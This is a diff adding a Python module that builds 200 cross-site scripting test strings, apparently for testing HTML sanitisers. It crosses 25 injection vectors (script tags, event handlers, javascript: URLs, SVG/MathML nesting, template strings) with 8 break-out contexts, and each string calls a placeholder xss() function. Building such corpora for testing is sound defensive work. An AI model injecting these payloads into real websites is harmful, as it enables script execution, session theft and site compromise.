@@ -1,0 +1,40 @@
+"""Two hundred texts that call `xss()` where a page lets them become markup, code or style."""
+
+VECTORS = [
+    "<script>xss()</script>",
+    "<script src=data:,xss()></script>",
+    "<ScRiPt>xss()</sCrIpT>",
+    "<img src=x onerror=xss()>",
+    "<IMG SRC=x OnErRoR='xss()'>",
+    "<img src=x:x onerror&equals;xss()>",
+    "<svg onload=xss()>",
+    "<svg><script>xss()</script></svg>",
+    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
+    "<details open ontoggle=xss()>",
+    "<body onload=xss()>",
+    "<input autofocus onfocus=xss()>",
+    "<video><source onerror=xss()></video>",
+    "<audio src=x onerror=xss()>",
+    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
+    "<iframe src='javascript:parent.xss()'></iframe>",
+    "<object data='javascript:xss()'></object>",
+    "<embed src='javascript:xss()'>",
+    "<a href='javascript:xss()'>click</a>",
+    "<form action='javascript:xss()'><button>Ask</button></form>",
+    "<style onload=xss()>*{color:red}</style>",
+    "<link rel=stylesheet href=x onerror=xss()>",
+    "<base href='javascript:xss()//'>",
+    "<math><mtext><img src=x onerror=xss()></mtext></math>",
+    "${xss()}{{constructor.constructor('xss()')()}}",
+]
+CONTEXTS = [
+    "{}",
+    '">{}',
+    "'>{}",
+    "</p></article></section>{}",
+    "</textarea></title></style></script>{}",
+    "--><!-- -->]]>{}",
+    "\u202e\u200b{}\u2028",
+    "Root cause: {} & \\u003cscript\\u003exss()\\u003c/script\\u003e &lt;script&gt;xss()&lt;/script&gt;",
+]
+PAYLOADS = [context.replace("{}", vector) for vector in VECTORS for context in CONTEXTS]
